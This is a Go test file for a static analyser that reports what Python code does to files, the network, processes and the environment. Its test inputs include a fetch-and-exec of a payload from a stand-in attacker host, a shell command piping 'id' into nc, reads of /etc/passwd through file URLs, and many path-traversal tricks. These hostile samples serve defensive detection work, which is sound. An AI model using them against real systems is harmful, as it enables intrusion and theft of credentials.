// SPDX-License-Identifier: Apache-2.0

package python

import (
	"fmt"
	"regexp"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/airlock-dev/airlock/internal/gate/report"
)

// effects lists what a source does besides importing and computing, as
// "line:column Kind name facts".
func effects(t *testing.T, source string) []string {
	t.Helper()
	r := Read([]byte(source))
	if r.Error != nil {
		return []string{fmt.Sprintf("%d:%d error %s", r.Error.Position.Line, r.Error.Position.Column, r.Error.Message)}
	}
	var out []string
	for _, op := range r.Operations {
		if op.Kind != report.Import && op.Kind != report.Compute {
			out = append(out, describe(op))
		}
	}
	for _, l := range r.Limits {
		out = append(out, "limit "+l)
	}
	return out
}

func describe(op report.Operation) string {
	words := []string{fmt.Sprintf("%d:%d", op.Position.Line, op.Position.Column), string(op.Kind), op.Name}
	for _, f := range []*report.Fact{op.Args.Path, op.Args.Host, op.Args.SQL, op.Args.Env} {
		if f != nil {
			words = append(words, factText(*f))
		}
	}
	for _, f := range op.Args.Argv {
		words = append(words, factText(f))
	}
	return strings.Join(words, " ")
}

func factText(f report.Fact) string {
	switch f.Known {
	case report.Literal:
		return f.Value
	case report.Prefix:
		return f.Value + "…"
	default:
		return "?"
	}
}

func TestEffectsCarryTheirFacts(t *testing.T) {
	for name, tc := range map[string]struct {
		source string
		want   []string
	}{
		"a report over an input file": {
			"import pandas as pd\ndf = pd.read_csv('/inputs/sales.csv')\nout = df.groupby('region')['amount'].sum().sort_values(ascending=False)\n" +
				"out.to_csv('report.csv')\nimport matplotlib.pyplot as plt\nout.plot(kind='bar')\nplt.savefig('./charts/../report.png')\nprint(out.head(10).to_string())\n",
			[]string{"2:6 FileRead pandas.read_csv /inputs/sales.csv", "4:5 FileWrite .to_csv /workspace/report.csv", "7:1 FileWrite matplotlib.pyplot.savefig ?"},
		},
		"deleting outside of the workspace": {
			"import os, shutil\nos.remove('/data/2023/../old.csv')\nshutil.rmtree('/data/archive')\nfrom pathlib import Path\n(Path('/data') / 'x').unlink()\n",
			[]string{"2:1 FileDelete os.remove ?", "3:1 FileDelete shutil.rmtree /data/archive", "5:23 FileDelete .unlink /data/x"},
		},
		"downloading and running a payload": {
			"import urllib.request\ncode = urllib.request.urlopen('http://evil.attacker.example/payload.py').read()\nexec(code)\n",
			[]string{"2:8 Network urllib.request.urlopen evil.attacker.example:80", "3:1 Dynamic exec"},
		},
		"the mode of open decides": {
			"open('/a')\nopen('/b', 'w')\nopen('/c', mode='r+')\nopen('/d', m)\nopen(0)\nm = input()\n",
			[]string{"1:1 FileRead open /a", "2:1 FileWrite open /b", "3:1 FileRead open /c", "3:1 FileWrite open /c", "4:1 FileRead open /d", "4:1 FileWrite open /d"},
		},
		"moving deletes and writes": {
			"import os, shutil\nos.rename('/a', 'b')\nshutil.move(src='/c', dst='/d')\n",
			[]string{"2:1 FileDelete os.rename /a", "2:1 FileWrite os.rename /workspace/b", "3:1 FileDelete shutil.move /c", "3:1 FileWrite shutil.move /d"},
		},
		"copying reads and writes":             {"import shutil as s\ns.copy('/a', '/b')\n", []string{"2:1 FileRead shutil.copy /a", "2:1 FileWrite shutil.copy /b"}},
		"a reader that is given a URL":         {"import pandas as pd\npd.read_csv('https://Example.COM/x.csv')\n", []string{"2:1 Network pandas.read_csv example.com:443"}},
		"a reader that is given anything":      {"import pandas as pd\ndef f(p): return pd.read_csv(p)\n", []string{"2:18 FileRead pandas.read_csv ?", "2:18 Network pandas.read_csv ?"}},
		"a reader that is given an open file":  {"import pandas as pd, io\npd.read_csv(io.StringIO('a'))\nwith open('/x') as f:\n  pd.read_csv(f)\n", []string{"3:6 FileRead open /x"}},
		"a writer that returns a string":       {"import pandas as pd\npd.DataFrame().to_csv()\npd.DataFrame().to_csv(None)\npd.DataFrame().to_string()\n", nil},
		"to_string with a file":                {"import pandas as pd\npd.DataFrame().to_string('/etc/x')\n", []string{"2:16 FileWrite .to_string /etc/x"}},
		"a command and its words":              {"import subprocess\nsubprocess.run(['git', 'log', x])\nx = input()\n", []string{"2:1 Process subprocess.run git log ?"}},
		"a shell command":                      {"import subprocess, os\nsubprocess.check_output('id | nc', shell=True)\nos.system('ls')\n", []string{"2:1 Process subprocess.check_output sh -c id | nc", "3:1 Process os.system sh -c ls"}},
		"a command in a list that changes":     {"import subprocess\nc = ['ls']\nc[0] = 'rm'\nsubprocess.run(c)\n", []string{"4:1 Process subprocess.run ?"}},
		"a command with another executable":    {"import subprocess\nsubprocess.run(['ls'], executable='/bin/sh')\nsubprocess.run(['ls'], -1, '/bin/sh')\n", []string{"2:1 Process subprocess.run ?", "3:1 Process subprocess.run ?"}},
		"exec under a false name":              {"import os\nos.execv('/bin/sh', ['ls', '-l'])\nos.execlp('sh', 'ls', '-c')\n", []string{"2:1 Process os.execv /bin/sh -l", "3:1 Process os.execlp sh -c"}},
		"environment variables by name":        {"import os\nos.environ['A']\nos.environ.get('B')\nos.getenv('C')\nos.environ['D'] = '1'\nprint(os.environ)\n", []string{"2:1 Environment os.environ A", "3:1 Environment os.environ.get B", "4:1 Environment os.getenv C", "5:1 Environment os.environ D", "6:7 Environment os.environ"}},
		"hosts in arguments":                   {"import socket, http.client\nsocket.create_connection(('h', 80))\nhttp.client.HTTPSConnection('H.')\nhttp.client.HTTPConnection('h:8080')\ns = socket.socket()\ns.connect(('::1', 22))\n", []string{"2:1 Network socket.create_connection h:80", "3:1 Network http.client.HTTPSConnection h:443", "4:1 Network http.client.HTTPConnection h:8080", "5:5 Network socket.socket ?", "6:3 Network .connect [::1]:22"}},
		"a request made before it is sent":     {"import urllib.request as u\nr = u.Request('http://a/x', method='POST')\nu.urlopen(r)\n", []string{"2:5 Network urllib.request.Request a:80", "3:1 Network urllib.request.urlopen a:80"}},
		"a file behind a URL":                  {"import urllib.request as u\nu.urlopen('file:///etc/passwd')\nu.urlopen('FILE:/etc/passwd')\n", []string{"2:1 FileRead urllib.request.urlopen /etc/passwd", "3:1 Network urllib.request.urlopen ?", "3:1 FileRead urllib.request.urlopen ?"}},
		"downloading to a file":                {"import urllib.request as u\nu.urlretrieve('http://a/x', '/etc/x')\n", []string{"2:1 Network urllib.request.urlretrieve a:80", "2:1 FileWrite urllib.request.urlretrieve /etc/x"}},
		"SQL text":                             {"import sqlite3\nc = sqlite3.connect('x.db').cursor()\nc.execute('DROP TABLE t')\n", []string{"2:5 FileRead sqlite3.connect /workspace/x.db", "2:5 FileWrite sqlite3.connect /workspace/x.db", "3:3 SQL .execute DROP TABLE t"}},
		"temporary files":                      {"import tempfile\ntempfile.mkdtemp()\ntempfile.NamedTemporaryFile('w', suffix='.csv', delete=False)\ntempfile.mkstemp(prefix='../etc/x')\ntempfile.mkdtemp(dir='/etc')\n", []string{"2:1 FileWrite tempfile.mkdtemp /tmp/tmpXXXXXXXX", "3:1 FileWrite tempfile.NamedTemporaryFile /tmp/tmpXXXXXXXX", "4:1 FileWrite tempfile.mkstemp ?", "5:1 FileWrite tempfile.mkdtemp /etc"}},
		"globs read their directory":           {"import glob\nglob.glob('/inputs/*.csv')\nglob.glob('*.csv')\nglob.glob('/a/b*/../../etc/*')\n", []string{"2:1 FileRead glob.glob /inputs", "3:1 FileRead glob.glob /workspace", "4:1 FileRead glob.glob ?"}},
		"archives":                             {"import zipfile\nz = zipfile.ZipFile('/inputs/a.zip')\nz.extractall('/etc')\n", []string{"2:5 FileRead zipfile.ZipFile /inputs/a.zip", "3:3 FileWrite .extractall ?"}},
		"numpy loads pickles only when told":   {"import numpy as np\nnp.load('a.npy')\nnp.load('a.npy', None, True)\nnp.load('a.npy', **k)\nk = {}\n", []string{"2:1 FileRead numpy.load /workspace/a.npy", "3:1 FileRead numpy.load /workspace/a.npy", "3:1 Dynamic numpy.load", "4:1 FileRead numpy.load ?", "4:1 FileWrite numpy.load ?", "4:1 Dynamic numpy.load"}},
		"standard streams are not files":       {"import sys\nprint('x', file=sys.stderr)\nsys.stdout.write(input())\n", nil},
		"logging to a file, and not":           {"import logging\nlogging.basicConfig(level=logging.INFO)\nlogging.basicConfig(filename='/var/log/x')\n", []string{"3:1 FileWrite logging.basicConfig /var/log/x"}},
		"relative paths after changing places": {"import os\nos.chdir('/etc')\nopen('passwd')\nopen('/a')\n", []string{"2:1 Environment os.chdir /etc", "3:1 FileRead open ?", "4:1 FileRead open /a"}},
	} {
		t.Run(name, func(t *testing.T) {
			if diff := cmp.Diff(tc.want, effects(t, tc.source)); diff != "" {
				t.Errorf("effects (-want +got):\n%s", diff)
			}
		})
	}
}

func TestPathsAreFolded(t *testing.T) {
	for name, tc := range map[string]struct{ source, want string }{
		"a constant":                                             {"p = '/etc/' 'passwd'\nopen(p)", "/etc/passwd"},
		"a sum":                                                  {"d = '/etc'\nopen(d + '/' + 'passwd')", "/etc/passwd"},
		"an f-string":                                            {"d = '/etc'\nopen(f'{d}/passwd')", "/etc/passwd"},
		"an f-string with an unknown end":                        {"open(f'/tmp/{input()}')", "/tmp/…"},
		"a format with an unknown end":                           {"open('/tmp/{}'.format(input()))", "/tmp/…"},
		"a percent with an unknown end":                          {"open('/tmp/%s' % input())", "/tmp/…"},
		"a formatted width is not the text":                      {"d = '/etc'\nopen(f'{d!r}')", "?"},
		"an unknown start":                                       {"open(input() + '/x')", "?"},
		"os.path.join":                                           {"import os\nopen(os.path.join('/inputs', 'a', 'b.csv'))", "/inputs/a/b.csv"},
		"os.path.join with an absolute part":                     {"import os\nopen(os.path.join('/inputs', '/etc/passwd'))", "/etc/passwd"},
		"os.path.join with an unknown part":                      {"import os\nopen(os.path.join('/inputs', input()))", "?"},
		"pathlib with an unknown part":                           {"from pathlib import Path\nopen(Path('/inputs') / input())", "?"},
		"pathlib, its parent and joinpath":                       {"from pathlib import Path\nopen(Path('/inputs/a').parent.joinpath('b'))", "/inputs/b"},
		"climbing out of the workspace":                          {"open('../../etc/passwd')", "?"},
		"climbing out behind an allowed prefix":                  {"open('/workspace/../etc/passwd')", "?"},
		"a name that is bound twice":                             {"p = '/tmp/x'\nif input(): p = '/etc/passwd'\nopen(p)", "/tmp/x /etc/passwd"},
		"a name that another function sets":                      {"p = '/tmp/x'\ndef f():\n  global p\n  p = input()\nopen(p)", "?"},
		"a name that a loop sets":                                {"p = '/tmp/x'\nfor p in input(): pass\nopen(p)", "?"},
		"a name that a walrus sets in a comprehension":           {"p = '/tmp/x'\n[p := q for q in input()]\nopen(p)", "?"},
		"a name that an import shadows":                          {"p = '/tmp/x'\nimport math as p\nopen(p)", "?"},
		"an augmented name":                                      {"p = '/tmp/x'\np += input()\nopen(p)", "?"},
		"a name that refers to itself":                           {"p = q\nq = p\nopen(p)", "?"},
		"an escape that is not resolved":                         {"open('\\N{SOLIDUS}etc/passwd')", "?"},
		"an escape that hides a slash":                           {"open('\\x2fetc/passwd')", "/etc/passwd"},
		"a reflected operator that returns any path":             {"class E:\n  def __radd__(self, o): return '/etc/passwd'\nopen('/tmp/' + E())", "?"},
		"a NUL in a path":                                        {"open('/tmp/x\\0')", "?"},
		"a starred argument":                                     {"open(*['/tmp/x'])", "?"},
		"a keyword argument":                                     {"open(file='/tmp/x')", "/tmp/x"},
		"keywords from a dictionary":                             {"open(**{'file': '/etc/passwd'})", "?"},
		"a parameter whose default is used":                      {"def f(p='/tmp/x'): open(p)\nf()", "/tmp/x"},
		"a parameter that its only call gives":                   {"def f(a, *, p='/tmp/x'): open(p)\ndef g(q): f(1, p=q)\ng('/etc/passwd')", "/etc/passwd"},
		"a parameter of two calls":                               {"def f(p): open(p)\nf('/tmp/x')\nf('/etc/passwd')", "/tmp/x /etc/passwd"},
		"a parameter that is set again":                          {"def f(p):\n  p += input()\n  open(p)\nf('/tmp/x')", "?"},
		"a parameter of a function used as a value":              {"def f(p): open(p)\nf('/tmp/x')\nlist(map(f, input()))", "?"},
		"a parameter of a decorated function":                    {"def d(g): return lambda p: g('/etc/passwd')\n@d\ndef f(p): open(p)\nf('/tmp/x')", "?"},
		"a parameter of a method":                                {"class A:\n  def f(self, p): open(p)\nA().f('/tmp/x')", "?"},
		"a parameter given by a starred argument":                {"def f(p): open(p)\nf(*input())", "?"},
		"a parameter behind a starred one":                       {"def f(*a, p='/tmp/x'): open(p)\nf(1, '/etc/passwd')", "/tmp/x"},
		"a parameter of a function that is redefined":            {"def f(p): open(p)\nf('/tmp/x')\ndef f(p): pass", "?"},
		"a parameter of a function that is recursive":            {"def f(p):\n  open(p)\n  f(p + 'x')\nf('/tmp/x')", "?"},
		"a parameter of a function that is never used":           {"def f(p='/tmp/x'): open(p)", "/tmp/x"},
		"two names of a loop":                                    {"for p in ['/tmp/x', '/tmp/y']: open(p)", "/tmp/x /tmp/y"},
		"a list in a variable":                                   {"L = ['/tmp/x']\nprint(len(L))\nfor p in L: open(p)", "/tmp/x"},
		"a list that is asked for its truth":                     {"import glob\nL = glob.glob('*.csv')[:3]\nif not L: pass\nfor p in L: open(p)", "/workspace/XXXXXXXX.csv"},
		"a list that grows by append":                            {"L = ['/tmp/x']\nL.append('/etc/passwd')\nfor p in L: open(p)", "/tmp/x /etc/passwd"},
		"a list that grows by extend":                            {"L = ['/tmp/x']\nL.extend(['/etc/passwd'])\nfor p in L: open(p)", "?"},
		"a list that grows by +=":                                {"L = ['/tmp/x']\nL += ['/etc/passwd']\nfor p in L: open(p)", "?"},
		"a list whose item is set":                               {"L = ['/tmp/x']\nL[0] = '/etc/passwd'\nfor p in L: open(p)", "?"},
		"a list that grows under another name":                   {"L = ['/tmp/x']\nM = L\nM.append('/etc/passwd')\nfor p in L: open(p)", "?"},
		"a list that a function changes":                         {"def g(m): m[0] = '/etc/passwd'\nL = ['/tmp/x']\ng(L)\nfor p in L: open(p)", "?"},
		"a list that a false sorted changes":                     {"def sorted(m):\n  m[0] = '/etc/passwd'\n  return m\nL = ['/tmp/x']\nfor p in sorted(L): open(p)", "?"},
		"a list that a false print changes":                      {"L = ['/tmp/x']\nprint(L)\nfor p in L: open(p)\ndef print(m): m[0] = '/etc/passwd'", "?"},
		"a list inside of a list":                                {"L = [['/tmp/x']]\nL[0].append('/etc/passwd')\nfor m in L:\n  for p in m: open(p)", "?"},
		"a list inside of a tuple":                               {"T = (['/tmp/x'], 1)\nT[0].append('/etc/passwd')\nfor p in T[0]: open(p)", "?"},
		"a list that a loop takes out":                           {"for t in [(1, ['/tmp/x'])]:\n  t[1].append('/etc/passwd')\n  a, b = t\n  for p in b: open(p)", "?"},
		"a list that os.walk fills and the code changes":         {"import os\nfor t in os.walk('/tmp'):\n  t[2].append('/etc/passwd')\n  a, b, c = t\n  for p in c: open(p)", "?"},
		"a tuple that is passed on":                              {"T = ('/tmp/x', '/tmp/y')\nlist(map(print, T))\nfor p in T: open(p)", "/tmp/x /tmp/y"},
		"a dictionary of paths":                                  {"D = {'a': '/tmp/x', 'b': '/tmp/y'}\nopen(D['a'])", "/tmp/x"},
		"a dictionary with a computed key":                       {"D = {'a': '/tmp/x', 'b': '/tmp/y'}\nopen(D[input()])", "/tmp/x /tmp/y"},
		"a dictionary with the same key twice":                   {"D = {'a': '/tmp/x', 'a': '/etc/passwd'}\nopen(D['a'])", "/etc/passwd"},
		"a dictionary that is updated":                           {"D = {'a': '/tmp/x'}\nD.update(a='/etc/passwd')\nopen(D['a'])", "?"},
		"a dictionary whose item is set":                         {"D = {'a': '/tmp/x'}\nD['a'] = '/etc/passwd'\nopen(D['a'])", "?"},
		"a key that is a number":                                 {"D = {-1: '/etc/passwd'}\nopen(D[-1])", "/etc/passwd"},
		"keys and values":                                        {"D = {'/tmp/x': '/tmp/y'}\nfor k, v in D.items(): open(k); open(v)", "/tmp/x /tmp/y"},
		"a conditional":                                          {"open('/tmp/x' if input() else '/etc/passwd')", "/tmp/x /etc/passwd"},
		"a default by or":                                        {"open(None or '/tmp/x')", "/tmp/x"},
		"a default of None":                                      {"def f(p=None): open(p or '/tmp/x')\nf()", "/tmp/x"},
		"a number in a name":                                     {"for i in range(3): open(f'/tmp/x{i}.png')", "/tmp/xXXXXXXXX.png"},
		"a number that is counted up":                            {"i = 0\nwhile True:\n  i += 1\n  open('/tmp/x%d.png' % i)", "/tmp/xXXXXXXXX.png"},
		"a number with a width":                                  {"open('/tmp/{:03d}.png'.format(input()))", "/tmp/XXXXXXXX.png"},
		"a number with a width that the code defines":            {"class E:\n  def __format__(self, s): return '../etc/passwd'\nopen(f'/tmp/{E():03d}')", "/tmp/…"},
		"a number of a class that adds in its own way":           {"import random\nclass I(int):\n  def __add__(self, o): return '/../../etc/passwd'\nopen(f'/tmp/{random.randint(I(1), I(2))}')", "/tmp/…"},
		"a width that fills with slashes":                        {"open(f'/tmp/{1:/>9d}')", "/tmp/…"},
		"a character by its number":                              {"open(f'/tmp/..{47:c}etc/passwd')", "?"},
		"a file descriptor that a loop counts":                   {"for i in range(9): open(i)", "?"},
		"a date in a name":                                       {"from datetime import datetime\nopen(f\"/tmp/{datetime.now().strftime('%Y-%m-%d_%H%M')}.csv\")", "/tmp/XXXXXXXX.csv"},
		"a date in a specification":                              {"from datetime import date\nopen(f'/tmp/{date.today():%Y-%m-%d}.csv')", "/tmp/XXXXXXXX.csv"},
		"a number in a specification":                            {"open(f'/tmp/{input():03d}.csv')", "/tmp/XXXXXXXX.csv"},
		"a conversion before a specification":                    {"x = '/tmp/x'\nopen(f'{x!r:}')", "?"},
		"an empty specification":                                 {"x = '/tmp/x'\nopen(f'{x:}')", "/tmp/x"},
		"a specification that cuts":                              {"x = '/tmp/x'\nopen(f'{x:.0}/etc/passwd')", "?"},
		"a date with slashes":                                    {"from datetime import datetime\nopen(f\"/tmp/{datetime.now().strftime('%Y/%m')}.csv\")", "/tmp/…"},
		"a date with slashes of its own":                         {"from datetime import datetime\nopen(f\"/tmp/{datetime.now().strftime('%D')}.csv\")", "/tmp/…"},
		"a template of only dots":                                {"from datetime import datetime\nopen(f\"/tmp/{datetime.now().strftime('..')}/etc/passwd\")", "/tmp/…"},
		"names in a directory":                                   {"import os\nfor n in os.listdir('/inputs'): open(os.path.join('/inputs', n))", "/inputs/XXXXXXXX"},
		"chosen names in a directory":                            {"import os\nL = sorted(n for n in os.listdir('/inputs') if n.endswith('.csv'))\nfor i, n in enumerate(L): open('/inputs/' + n)", "/inputs/XXXXXXXX"},
		"a name in a directory that is cut":                      {"import os\nfor n in os.listdir('/inputs'): open('/inputs/' + n[1:])", "?"},
		"a name in a directory with another end":                 {"import os\nfor n in os.listdir('/inputs'): open('/tmp/' + n[:-4] + '.json')", "/tmp/XXXXXXXX.json"},
		"a part of a name that may be empty":                     {"import os\nfor n in os.listdir('/inputs'): open(n[9:] + '/etc/passwd')", "?"},
		"names from elsewhere":                                   {"for n in input().split(): open('/inputs/' + n)", "/inputs/…"},
		"a pattern":                                              {"import glob\nfor p in glob.glob('/inputs/*.csv'): open(p)", "/inputs/XXXXXXXX.csv"},
		"a pattern below another root":                           {"import glob\nfor p in glob.glob('*.csv', root_dir='/etc'): open(p)", "?"},
		"a pattern that climbs":                                  {"import glob\nfor p in glob.glob('/inputs/*/../../etc/*'): open(p)", "?"},
		"a tree":                                                 {"import os\nfor d, _, names in os.walk('/inputs'):\n  for n in names: open(os.path.join(d, n))", "/inputs/XXXXXXXX /inputs/XXXXXXXX/XXXXXXXX"},
		"a directory of pathlib":                                 {"from pathlib import Path\nfor p in Path('/inputs').glob('*.csv'): open(p)", "/inputs/XXXXXXXX.csv"},
		"a pattern of pathlib that is absolute":                  {"from pathlib import Path\nfor p in Path('/inputs').glob('/etc/*'): open(p)", "?"},
		"the base name of anything":                              {"import os\nopen(os.path.join('/tmp', os.path.basename(input())))", "?"},
		"the base name of anything, with an end":                 {"import os\nopen(os.path.join('/tmp', os.path.basename(input()) + '.csv'))", "/tmp/XXXXXXXX.csv"},
		"a name that re.sub cleans":                              {"import re\nn = re.sub(r'[^\\w.-]', '_', input())\nopen(f'/tmp/{n}.csv')", "/tmp/XXXXXXXX.csv"},
		"a name that re.sub cleans and that may be dots":         {"import re\nn = re.sub(r'[^\\w.-]', '_', input())\nopen(f'/tmp/{n}/etc/passwd')", "?"},
		"a re.sub that leaves slashes":                           {"import re\nn = re.sub(r'[^\\w/]', '_', input())\nopen(f'/tmp/{n}.csv')", "/tmp/…"},
		"a re.sub whose range holds a slash":                     {"import re\nn = re.sub(r'[^+-9]', '_', input())\nopen(f'/tmp/{n}.csv')", "/tmp/…"},
		"a re.sub that is told how often":                        {"import re\nn = re.sub(r'\\W', '_', input(), count=1)\nopen(f'/tmp/{n}.csv')", "/tmp/…"},
		"a re.sub that puts slashes in":                          {"import re\nn = re.sub(r'(\\W)', r'\\1', input())\nopen(f'/tmp/{n}.csv')", "/tmp/…"},
		"a temporary directory":                                  {"import os, tempfile\nwith tempfile.TemporaryDirectory() as d: open(os.path.join(d, 'x'))", "/tmp/tmpXXXXXXXX/x"},
		"a temporary directory somewhere else":                   {"import os, tempfile\nwith tempfile.TemporaryDirectory(dir='/etc') as d: open(os.path.join(d, 'x'))", "/etc/XXXXXXXX/x"},
		"another suffix":                                         {"from pathlib import Path\nopen(Path('/tmp/a.csv').with_suffix('.json'))", "/tmp/a.json"},
		"another suffix of a directory":                          {"from pathlib import Path\nopen(Path('/tmp/').with_suffix('.json'))", "/tmp.json"},
		"the parent of a directory":                              {"from pathlib import Path\nopen(Path('/tmp/x/').parent / 'y')", "/tmp/y"},
		"characters that stand for names":                        {"open('/tmp/\\ue001/etc/passwd')", "?"},
		"a comprehension over paths":                             {"L = [f'/tmp/{n}.csv' for n in ('a', 'b')]\nfor p in L: open(p)", "/tmp/a.csv /tmp/b.csv"},
		"more paths than are followed":                           {"for p in ['/tmp/0', '/tmp/1', '/tmp/2', '/tmp/3', '/tmp/4', '/tmp/5', '/tmp/6', '/tmp/7', '/tmp/8', '/tmp/9', '/tmp/10', '/tmp/11', '/tmp/12', '/tmp/13', '/tmp/14', '/tmp/15', '/tmp/16', '/tmp/17', '/tmp/18', '/tmp/19', '/tmp/20', '/tmp/21', '/tmp/22', '/tmp/23', '/tmp/24', '/tmp/25', '/tmp/26', '/tmp/27', '/tmp/28', '/tmp/29', '/tmp/30', '/tmp/31', '/tmp/32', '/tmp/33', '/tmp/34', '/tmp/35', '/tmp/36', '/tmp/37', '/tmp/38', '/tmp/39']: open(p)", "?"},
		"unpacking with a star":                                  {"a, *b = ['/tmp/x', '/etc/passwd']\nopen(a)", "?"},
		"a display with a star":                                  {"a, b = [*['/etc/passwd'], '/tmp/x']\nopen(b)", "?"},
		"names that zip pairs":                                   {"for p, q in zip(['/tmp/x'], ['/tmp/y']): open(q)", "/tmp/y"},
		"group names of a data frame":                            {"import pandas as pd\nfor n, g in pd.DataFrame().groupby('a'): open(f'/tmp/{n}.csv')", "/tmp/…"},
		"a field of an object":                                   {"class A:\n  def __init__(self): self.p = '/tmp/x'\n  def go(self): open(self.p)\nA().go()", "/tmp/x"},
		"a field that the constructor is given":                  {"class A:\n  def __init__(self, p, q='/tmp/y'): self.p, self.q = p, q\n  def go(self): open(self.p); open(self.q)\na = A('/etc/passwd')\na.go()", "/etc/passwd /tmp/y"},
		"a field that other code sets":                           {"class A:\n  def __init__(self): self.p = '/tmp/x'\n  def go(self): open(self.p)\na = A()\na.p = input()\na.go()", "?"},
		"a field that a loop sets":                               {"class A:\n  def __init__(self): self.p = '/tmp/x'\n  def go(self): open(self.p)\na = A()\nfor a.p in input(): a.go()", "?"},
		"a field that is added to":                               {"class A:\n  def __init__(self): self.p = '/tmp/x'\n  def go(self): open(self.p)\na = A()\na.p += input()\na.go()", "?"},
		"a field of a class that is passed on":                   {"class A:\n  def __init__(self, p): self.p = p\n  def go(self): open(self.p)\nA('/tmp/x')\nlist(map(A, input()))", "?"},
		"a field of a method that is called with another object": {"class A:\n  p = '/tmp/x'\n  def go(self): open(self.p)\nclass B: p = '/etc/passwd'\nA.go(B())", "?"},
		"a field of a class with a base":                         {"class B:\n  def __init__(self, p): self.p = p\nclass A(B):\n  p = '/tmp/x'\n  def go(self): open(self.p)\nA('/etc/passwd').go()", "?"},
		"a field of a thread, which has a name":                  {"import threading\nclass X: pass\nx = X()\nx.name = '/tmp/x'\nclass A(threading.Thread):\n  def go(self): open(self.name)\nA(name='/etc/passwd').go()", "?"},
		"a field that argparse sets":                             {"import argparse\nclass A:\n  p = '/tmp/x'\n  def go(self): open(self.p)\na = A()\np = argparse.ArgumentParser()\np.add_argument('--p')\np.parse_args(['--p', '/etc/passwd'], a)\na.go()", "?"},
		"a field that argparse sets through a map":               {"import argparse\nclass A:\n  p = '/tmp/x'\n  def go(self): open(self.p)\na = A()\np = argparse.ArgumentParser()\np.add_argument('--p')\nlist(map(p.parse_args, [['--p', '/etc/passwd']], [a]))\na.go()", "?"},
		"a field that is a property":                             {"class A:\n  p = '/tmp/x'\n  @property\n  def p(self): return input()\n  def go(self): open(self.p)\nA().go()", "?"},
		"a field of a decorated class":                           {"def d(c):\n  c.p = input()\n  return c\n@d\nclass A:\n  def __init__(self): self.p = '/tmp/x'\n  def go(self): open(self.p)\nA().go()", "?"},
		"a settings dictionary that is passed":                   {"C = {'in': '/tmp/x', 'n': 3}\ndef f(c): open(c['in'])\nf(C)", "/tmp/x"},
		"a settings dictionary that a function changes":          {"C = {'in': '/tmp/x', 'n': 3}\ndef f(c): open(c['in'])\ndef g(c): c['in'] = '/etc/passwd'\ng(C)\nf(C)", "?"},
		"a settings dictionary that a function hands on":         {"C = {'in': '/tmp/x', 'n': 3}\ndef f(c): open(c['in'])\ndef g(c): h(c)\ndef h(c): c.update({'in': '/etc/passwd'})\ng(C)\nf(C)", "?"},
		"a list that a function only reads":                      {"def f(paths):\n  for p in paths: open(p)\nL = ['/tmp/x']\nf(L)", "/tmp/x"},
		"a list that a function keeps":                           {"kept = []\ndef f(paths): kept.append(paths)\nL = ['/tmp/x']\nf(L)\nkept[0].append('/etc/passwd')\nfor p in L: open(p)", "?"},
		"a field of a class inside of a class":                   {"class O:\n  class A:\n    def __init__(self, p='/tmp/x'): self.p = p\n    def go(self): open(self.p)\nO.A('/etc/passwd').go()", "?"},
		"a parameter of a constructor inside of a class":         {"class O:\n  class A:\n    def __init__(self, p='/tmp/x'): open(p)\nO.A('/etc/passwd')", "?"},
		"a constructor that is called again":                     {"class A:\n  def __init__(self, p='/tmp/x'): open(p)\na = A()\nA.__init__(a, '/etc/passwd')", "?"},
		"a constructor that a subclass calls":                    {"class A:\n  def __init__(self, p='/tmp/x'): open(p)\nclass B(A):\n  def __init__(self): super().__init__('/etc/passwd')\nB()", "?"},
		"a path whose last slash is dropped":                     {"from pathlib import Path\nopen(f\"{Path('/tmp/')}x\")", "/tmpx"},
		"a path whose dot is dropped":                            {"from pathlib import Path\nopen(str(Path('/tmp') / '.') + 'x')", "/tmpx"},
		"a path whose part may be dropped":                       {"from pathlib import Path\nimport os\nfor n in os.listdir('/tmp'): open(str(Path('/tmp') / n[9:]) + 'x')", "?"},
		"a function that a class hands out":                      {"class A:\n  def f(p='/tmp/x'): open(p)\nA.f('/etc/passwd')", "?"},
		"a function inside of a function that is returned":       {"def g():\n  def f(p='/tmp/x'): open(p)\n  return f\ng()('/etc/passwd')", "?"},
		"a default of a lambda":                                  {"f = lambda p='/tmp/x': open(p)\nf('/etc/passwd')", "?"},
		"a list that a slice replaces":                           {"L = ['/tmp/x']\nL[:] = ['/etc/passwd']\nfor p in L: open(p)", "?"},
		"a list that a loop fills":                               {"L = ['/tmp/x']\nfor L[0] in ['/etc/passwd']: pass\nfor p in L: open(p)", "?"},
		"a list that a with statement fills":                     {"import contextlib\nL = ['/tmp/x']\nwith contextlib.nullcontext('/etc/passwd') as L[0]: pass\nfor p in L: open(p)", "?"},
		"a list that another function empties and fills":         {"L = ['/tmp/x']\ndef g():\n  global L\n  L = ['/etc/passwd']\ng()\nfor p in L: open(p)", "?"},
		"a parameter of a function that globals names":           {"def f(p): open(p)\nf('/tmp/x')\nfor g in [f]: g('/etc/passwd')", "?"},
	} {
		t.Run(name, func(t *testing.T) {
			var got []string
			for _, op := range Read([]byte(tc.source)).Operations {
				if op.Name == "open" && op.Kind == report.FileRead {
					got = append(got, factText(*op.Args.Path))
				}
			}
			if diff := cmp.Diff(tc.want, strings.Join(got, " ")); diff != "" {
				t.Errorf("path (-want +got):\n%s", diff)
			}
		})
	}
}

func TestReportOfASource(t *testing.T) {
	r := Read([]byte("import pandas as pd\n\ndéjà = pd.read_csv(\n  '/inputs/a')\n"))
	want := []report.Operation{
		{
			Language: report.Python, Kind: report.Import, Form: report.FormImport, Name: "pandas",
			Position: report.Position{Line: 1, Column: 8, EndLine: 1, EndColumn: 20}, Snippet: "pandas as pd",
		},
		{
			Language: report.Python, Kind: report.FileRead, Form: report.FormCall, Name: "pandas.read_csv",
			Args:     report.Args{Path: &report.Fact{Known: report.Literal, Value: "/inputs/a"}},
			Position: report.Position{Line: 3, Column: 8, EndLine: 4, EndColumn: 15}, Snippet: "pd.read_csv(…", Via: []string{"pd"},
		},
	}
	if diff := cmp.Diff(want, r.Operations); diff != "" {
		t.Errorf("operations (-want +got):\n%s", diff)
	}
	if r.Parser != Parser || r.Tables != Tables() || !strings.Contains(r.Tables, "pandas 1.5.3") {
		t.Errorf("parser %q and tables %q do not say what was used", r.Parser, r.Tables)
	}
}

func TestTablesNameWhatTheyWereMadeFrom(t *testing.T) {
	digest := regexp.MustCompile(`^sha256:[0-9a-f]{64}$`).MatchString
	if !digest(TablesDigest()) || !digest(Inventory()) {
		t.Errorf("TablesDigest() = %q and Inventory() = %q, want digests", TablesDigest(), Inventory())
	}
	if !strings.HasPrefix(TablesDigest(), Tables()[strings.Index(Tables(), "sha256:"):]) {
		t.Errorf("Tables() = %q does not name %s", Tables(), TablesDigest())
	}
}

